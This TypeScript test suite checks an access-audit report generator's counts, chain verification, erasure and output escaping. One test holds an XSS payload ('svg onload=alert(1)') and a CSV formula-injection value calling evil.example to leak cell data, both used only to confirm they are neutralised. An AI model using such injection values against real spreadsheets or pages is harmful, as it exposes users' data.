import { Client } from "pg";
import { csvOf } from "../../src/audit/report/figures-csv.ts";
import type { Figures, Outcome } from "../../src/audit/report/figures.ts";
import { htmlOf } from "../../src/audit/report/html.ts";
import { parsePeriod } from "../../src/audit/report/period.ts";
import { readFigures } from "../../src/audit/report/read-figures.ts";
import { refusalText } from "../../src/domain/refusal.ts";
import { fillQuarter, hostile, sealAll } from "../support/audited-quarter.ts";
import { createDatabase, type TestDatabase } from "../support/database.ts";

let database: TestDatabase;
let figures: Figures;

beforeAll(async () => {
  database = await createDatabase();
  await fillQuarter(database.url);
  figures = await read("2025-Q3", "UTC");
});
afterAll(() => database.close());

async function read(name: string, timeZone: string): Promise<Figures> {
  const parsed = parsePeriod(name, timeZone);
  if (!parsed.ok) throw new Error(parsed.fault);
  const verification = await sealAll(database.url);
  return readFigures({ databaseUrl: database.url }, { period: parsed.period, zoneNote: "", verification });
}

/** Counted another way: each event looked at by itself. */
async function count(condition: string): Promise<number> {
  const client = new Client({ connectionString: database.url });
  await client.connect();
  try {
    const { rows } = await client.query<{ count: number }>(
      `select count(*)::int as count from audit_events where at >= '2025-07-01T00:00Z' and at < '2025-10-01T00:00Z' and ${condition}`,
    );
    return rows[0]?.count ?? 0;
  } finally {
    await client.end();
  }
}

test("requests are counted by week, the weeks add up to the period, and what came after it is not in it", async () => {
  const sum = (what: "filed" | Outcome): number =>
    figures.weeks.reduce((total, week) => total + week[what], 0);
  expect(figures.weeks).toHaveLength(14);
  expect(sum("filed")).toBe(await count("type in ('request.created', 'request.refused')"));
  // One more was logged as approved by who took it, as older versions did.
  expect(sum("approved")).toBe((await count("type = 'request.approved'")) - 1);
  expect(sum("taken")).toBe(2);
  expect(sum("denied")).toBe(await count("type = 'request.denied'"));
  expect([sum("denied"), sum("refused"), sum("expired"), sum("cancelled")]).toEqual([20, 20, 20, 20]);
});

test("neither a rule nor broken glass counts as time to approve", () => {
  expect(figures.approvedBy).toEqual({ people: 280, rule: 40 });
  expect(figures.waits.count).toBe(280);
  expect(figures.waits.histogram.reduce((sum, each) => sum + each, 0)).toBe(280);
  expect(figures.waits.medianSeconds).toBeGreaterThan(20);
  expect(figures.waits.p95Seconds).toBeGreaterThan(figures.waits.medianSeconds ?? 0);
});

test("access is told apart by risk, resource, and whether the person held it before", async () => {
  expect(figures.standing).toMatchObject({ justInTime: 302, alreadyHeld: 20 });
  expect(figures.standing.hoursHeld).toBeCloseTo(300, 1);
  const high = figures.weeksByRisk.reduce((sum, week) => sum + week.high, 0);
  expect(high).toBe(
    await count(
      "resource = 'orders-db' and type = 'grant.active' and data ->> 'standing' is distinct from 'true'",
    ),
  );
  const all = figures.weeksByRisk.reduce((sum, { low, medium }) => sum + low + medium, high);
  expect(all).toBe(302);
  expect(figures.resources.total).toBe(4);
  expect(figures.resources.rows.find(({ resource }) => resource === "orders-db")?.high).toBe(high);
});

test("what is rare is listed: broken glass and its review, late revocations, own requests, flags, drift", () => {
  expect(figures.breakGlass.rows).toEqual([
    expect.objectContaining({ request: "AR-2001", verdict: undefined, risk: "high" }),
    expect.objectContaining({ request: "AR-2002", verdict: "object", note: hostile.note }),
  ]);
  expect(figures.overdue).toMatchObject({ total: 1, rows: [{ lateSeconds: 4_000, goneAt: undefined }] });
  expect(figures.refusedClicks).toEqual([
    { why: refusalText.own_request, count: 2 },
    { why: refusalText.not_approver, count: 1 },
  ]);
  expect(figures.ownRequests).toMatchObject({
    total: 2,
    rows: [{ person: "erin@example.com" }, { person: "erin@example.com" }],
  });
  expect(figures.flags).toMatchObject({
    total: 2,
    rows: [
      { kind: "unusual_hour", why: hostile.why },
      { kind: "first_time", why: "" },
    ],
  });
  expect(figures.drift).toMatchObject([{ provider: "orders-postgres", "drift.found": 1 }]);
  expect(figures.driftFindings.rows[0]).toMatchObject({ subject: "intruder", access: "orders-db:write" });
});

test("who was erased is a number everywhere", () => {
  expect(figures.breakGlass.rows[0]?.requester).toMatch(/^erased person \d+$/);
  for (const written of [htmlOf(figures), csvOf(figures)]) {
    expect(written).toMatch(/erased person \d+/);
    expect(written).not.toContain("gone@example.com");
  }
});

test("the chain is said to be as it was written, with the places of the period", () => {
  expect(figures.chain.verification.faults).toEqual([]);
  const { verified } = figures.chain.verification;
  // The denial afterwards, and the erasure, are later.
  expect(figures.chain).toMatchObject({ first: 1, last: verified - 2, unsealed: 0 });
  expect(htmlOf(figures)).toContain("is as it was written");
});

test("what was retired is not passed over", () => {
  const tombstone = {
    version: 1 as const,
    from: 1,
    to: 9,
    previous: "",
    hash: "",
    firstAt: "2025-01-01T00:00:00.000Z",
    lastAt: "2025-07-02T00:00:00.000Z",
    at: "",
    keyId: "",
    signature: "",
  };
  const after = (lastAt: string): string => {
    const verification = { ...figures.chain.verification, tombstones: [{ ...tombstone, lastAt }] };
    return htmlOf({ ...figures, chain: { ...figures.chain, verification } });
  };
  const missing =
    "What happened until 2025-07-02T00:00:00.000Z was retired from the audit, and is not in this report.";
  expect(after(tombstone.lastAt)).toContain(missing);
  expect(after(tombstone.lastAt)).toContain("events verified, from place 10 on");
  expect(after("2025-06-30T23:59:59.999Z")).not.toContain("is not in this report");
  expect(htmlOf(figures)).not.toContain("retired");
});

test("days are those of the time zone", async () => {
  // The one denial after the period is within it where clocks are behind.
  const there = await read("2025-Q3", "America/New_York");
  expect(there.counts["request.denied"]).toBe(21);
});

test("what people wrote is text: no markup in the page, no formula in a cell", () => {
  const page = htmlOf(figures);
  expect(page).not.toMatch(/<script|<img|onload=alert\(1\)>/);
  expect(page).toContain("&quot;&gt;&lt;svg onload=alert(1)&gt;");
  expect(page).not.toContain("\u202e");
  const cells = csvOf(figures);
  expect(cells).toContain(`"'=HYPERLINK(""https://evil.example/""&A1)"`);
  expect(cells).not.toMatch(/^(?:[^\n]*,)?"?[=+@]/m);
});

test("a period without events is a report all the same", async () => {
  const empty = await read("2024-02", "UTC");
  expect(empty.weeks.map(({ week }) => week)).toEqual([
    "2024-01-29",
    "2024-02-05",
    "2024-02-12",
    "2024-02-19",
    "2024-02-26",
  ]);
  expect(htmlOf(empty)).toContain("Nothing was approved by people.");
  expect(csvOf(empty)).toContain("requests,Requests in all / filed / Count,0\n");
});

test("access that appeared again is held, and late, by itself, and not from its first day on", async () => {
  const again = await createDatabase();
  const client = new Client({ connectionString: again.url });
  await client.connect();
  try {
    const id = "00000000-0000-7000-8000-00000000000a";
    const overdue = (since: string, lateSeconds: number) => ({ since, lateSeconds, step: 1, attempts: 1 });
    const events: readonly (readonly [string, string, object])[] = [
      ["2025-08-01T00:00Z", "grant.active", {}],
      ["2025-08-01T01:01Z", "revocation.overdue", overdue("2025-08-01T01:00:00.000Z", 60)],
      ["2025-08-01T01:05Z", "revocation.overdue", overdue("2025-08-01T01:00:00.000Z", 300)],
      ["2025-08-01T02:00Z", "grant.revoked", { reason: "expired", verified: true, lateSeconds: 3_600 }],
      ["2025-08-04T00:00Z", "grant.reappeared", {}],
      ["2025-08-04T00:30Z", "grant.revoked", { reason: "drift", verified: true }],
      ["2025-08-05T00:00Z", "grant.reappeared", {}],
      ["2025-08-05T00:01Z", "revocation.overdue", overdue("2025-08-05T00:00:00.000Z", 60)],
    ];
    for (const [at, type, data] of events)
      await client.query(
        `insert into audit_events (id, at, type, request_id, request_number, grant_id, actor_kind, data)
         values (gen_random_uuid(), $1, $2, $3, 1, $3, 'hallpass', $4)`,
        [at, type, id, JSON.stringify(data)],
      );
    const parsed = parsePeriod("2025-Q3", "UTC");
    if (!parsed.ok) throw new Error(parsed.fault);
    const verification = await sealAll(again.url);
    const found = await readFigures(
      { databaseUrl: again.url },
      { period: parsed.period, zoneNote: "", verification },
    );
    expect(found.standing.hoursHeld).toBeCloseTo(2.5, 5);
    expect(found.overdue).toMatchObject({
      total: 2,
      rows: [
        { lateSeconds: 60, goneAt: undefined },
        { lateSeconds: 300, goneAt: new Date("2025-08-01T02:00Z") },
      ],
    });
  } finally {
    await client.end();
    await again.close();
  }
});
